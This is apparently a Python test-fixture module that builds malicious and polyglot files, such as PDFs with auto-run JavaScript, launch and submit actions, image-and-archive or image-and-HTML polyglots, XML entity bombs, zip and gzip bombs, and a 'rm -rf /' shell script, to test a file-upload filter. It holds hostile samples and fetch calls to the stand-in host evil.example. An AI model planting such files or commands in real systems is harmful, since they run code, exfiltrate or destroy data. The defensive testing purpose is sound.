"""Files made to do harm, or to look like others (security T15). Everything is written here; none is about anybody."""

import base64
import io
import struct
import zipfile
import zlib

from PIL import Image

from carnet.demo.payloads import jpeg, pdf, rtf

SCRIPT = b"<script>fetch('https://evil.example')</script>"


def pdf_of(*objects, trailer=b""):
    """A PDF of these objects, the first being the catalog, with its cross-reference table."""
    parts, offsets, place = [b"%PDF-1.7\n"], [], 9
    for number, body in enumerate(objects, 1):
        offsets.append(place)
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        place += len(parts[-1])
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(objects) + 1
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n%s" % (count, table))
    parts.append(b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (count, trailer, place))
    return b"".join(parts)


def stream(content, extra=b""):
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), extra, content)


def page_pdf(catalog=b"", page=b"", content=b"BT /F1 12 Tf 72 700 Td (visible) Tj ET", more=(), box=b"[0 0 595 842]"):
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>%s>>" % (box, page),
        stream(content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


ALERT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
ACTIVE_PDFS = {
    "javascript when opened": page_pdf(b"/OpenAction" + ALERT),
    "javascript by name": page_pdf(b"/Names<</JavaScript<</Names[(a)" + ALERT + b"]>>>>"),
    "program started": page_pdf(b"/OpenAction<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>"),
    "address opened": page_pdf(b"/OpenAction<</S/URI/URI(https://evil.example)>>"),
    "form sent": page_pdf(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
    "other document": page_pdf(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>"),
    "acts of the page": page_pdf(page=b"/AA<</O" + ALERT + b"/C" + ALERT + b">>"),
    "link with script": page_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 900]/A" + ALERT + b">>]"),
    "rich media": page_pdf(page=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 600 900]>>]"),
    "xfa form": page_pdf(
        b"/AcroForm<</Fields[]/XFA 6 0 R>>", more=(stream(b"<xdp><script>app.alert(1)</script></xdp>"),)
    ),
    "embedded program": page_pdf(
        b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>",
        more=(stream(b"MZ" + bytes(60)),),
    ),
}
"""PDFs that do something in a reader that lets them; each shows the word `visible`."""


def zipped(size=10_000_000):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", bytes(size))
    return written.getvalue()


def gzipped(content):
    packer = zlib.compressobj(9, wbits=31)
    return packer.compress(content) + packer.flush()


def png_chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width, height, data=b"", chunks=()):
    """A grey PNG that says it is so wide and high."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    middle = b"".join(png_chunk(kind, content) for kind, content in chunks)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + middle
        + png_chunk(b"IDAT", zlib.compress(data))
        + png_chunk(b"IEND", b"")
    )


def real(kind, size=(40, 30), colour=(200, 30, 30), **options):
    written = io.BytesIO()
    Image.new("RGB", size, colour).save(written, kind, **options)
    return written.getvalue()


POLYGLOTS = {
    "PDF and archive": pdf("visible") + zipped(1000),
    "PDF and page": page_pdf() + b"<html>" + SCRIPT + b"</html>",
    "JPEG and page": real("JPEG") + b"<html>" + SCRIPT + b"</html>",
    "JPEG with a page in its comment": jpeg("<html>" + SCRIPT.decode() + "</html>"),
    "PNG with a page in its text": png(2, 1, b"\x00\xff\x00", [(b"tEXt", b"Comment\x00" + SCRIPT)]),
    "PNG and archive": png(2, 1, b"\x00\xff\x00") + zipped(1000),
    "GIF and archive (GIFAR)": real("GIF") + zipped(1000),
    "GIF and script": real("GIF") + b"=1;alert(1)",
    "TIFF and page": real("TIFF") + SCRIPT,
    "RTF with an object": rtf("visible")[:-1] + b"{\\object\\objdata 4d5a9000}{\\*\\htmltag " + SCRIPT + b"}}",
}
"""Files that are two things at once: they are shown as what they begin with, and nothing of the rest comes out."""

REFUSED = {
    "page": b"<html><body>" + SCRIPT,
    "page after white space": b"\r\n\t <!DOCTYPE html>" + SCRIPT,
    "page with a byte order mark": b"\xef\xbb\xbf<html>" + SCRIPT,
    "page in UTF-16": "\ufeff<html><script>1</script>".encode("utf-16-le"),
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "drawing in XML": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    "entity bomb": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    "stylesheet": b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    "comment before a page": b"<!-- x --><html>",
    "archive": zipped(),
    "empty archive": b"PK\x05\x06" + bytes(18),
    "gzip": gzipped(bytes(10_000_000)),
    "program for Windows": b"MZ" + bytes(100),
    "program for Linux": b"\x7fELF" + bytes(100),
    "program for Java": b"\xca\xfe\xba\xbe" + bytes(100),
    "program in a shell": b"#!/bin/sh\nrm -rf /\n",
    "manifest with a program in front": b"MZ" + bytes(126) + b"DICM" + bytes(40),
    "manifest": bytes(128) + b"DICM" + bytes(40),
    "office of old": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),
    "bytes": bytes(range(256)),
    "PDF not at its beginning": b"GARBAGE\x00" + pdf("visible"),
    "nothing": b"",
    "video": b"\x00\x00\x00\x20ftypisom" + bytes(60),
}

HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAb5tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAADRpbG9jAAAAAERAAAIAAQAAAAAB4gABAAAA"
    "AAAAABoAAgAAAAAB/AABAAAAAAAAAC4AAAA4aWluZgAAAAAAAgAAABVpbmZlAgAAAAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAAA5waXRtAAAAAAABAAAA/WlwcnAA"
    "AADdaXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAqQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAho"
    "MCAAAAMDIAAAAwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xhcAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AAAAAC"
    "AAAAEHBpeGkAAAAAAwgICAAAABhpcG1hAAAAAAAAAAEAAQWBAgMFhAAAABppcmVmAAAAAAAAAA5jZHNjAAIAAQABAAAAUG1kYXQAAAAWKAGvGYDvSaW//9/jH/X2r/imtaY+bgAA"
    "AAZFeGlmAABNTQAqAAAACAABAQ8AAgAAAAkAAAAaAAAAAEFwcGFyZWlsAAA="
)
"""A red picture of 64 by 48 pixels, as phones write them, with a name in its EXIF."""
